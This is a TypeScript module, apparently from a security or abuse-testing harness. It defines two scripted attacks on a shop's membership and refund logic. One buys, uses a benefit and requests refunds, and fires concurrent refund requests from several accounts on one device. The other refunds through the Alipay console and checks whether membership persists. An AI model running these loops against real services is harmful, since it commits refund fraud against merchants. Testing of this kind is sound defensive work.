import { buy, membershipEnd, newDevice, openAccount, refundAtAlipay } from './shopper.ts';
import { type Attack, countGranted, inTurn, isGranted, type Target, together } from './target.ts';

/** Buys, uses a benefit and requests a refund, repeatedly. */
async function useAndRefund(target: Target, times: number): Promise<number> {
  const refunds = await inTurn(times, async () => {
    const account = await openAccount(target);
    const orderNo = await buy(target, account);
    const used = await target.call('clockIn', {}, account.headers);
    if (!isGranted(used)) throw new Error(`checking in failed: ${JSON.stringify(used)}`);
    return target.call('requestRefund', { orderNo }, account.headers);
  });
  return countGranted(refunds);
}

/** Refunds unused orders of several accounts on one device at the same time. */
async function refundOnOneDevice(target: Target, times: number): Promise<number> {
  const device = newDevice();
  const bought = await inTurn(times, async () => {
    const account = await openAccount(target, device);
    return { account, orderNo: await buy(target, account) };
  });
  const asked = await together(times * 2, (turn) => {
    const { account, orderNo } = bought[turn % times] ?? { account: { headers: {} }, orderNo: '' };
    return target.call('requestRefund', { orderNo }, account.headers);
  });
  return countGranted(asked);
}

export const refundLoops: Attack = {
  name: '1 buy, use, refund, again',
  async run(target, times) {
    const used = await useAndRefund(target, times);
    const atOnce = await refundOnOneDevice(target, times);
    return {
      tried: [
        `${times} orders used and refunded`,
        `${times * 2} refunds at once of ${times} accounts on one device, ${atOnce} accepted`,
      ],
      gained: [
        ...(used > 0 ? [`${used} used orders were refunded`] : []),
        ...(atOnce > 1 ? [`${atOnce} refunds within 30 days on one device`] : []),
      ],
    };
  },
};

export const consoleRefunds: Attack = {
  name: '2 refunds at the provider keep what was bought',
  async run(target, times) {
    const kept = await inTurn(times, async () => {
      const account = await openAccount(target);
      const orderNo = await buy(target, account);
      await target.call('clockIn', {}, account.headers);
      await refundAtAlipay(target, orderNo);
      return (await membershipEnd(target, account)) > Date.now();
    });
    const members = kept.filter(Boolean).length;
    return {
      tried: [`${times} orders used and refunded in the console of Alipay`],
      gained: members > 0 ? [`${members} accounts stayed members`] : [],
    };
  },
};
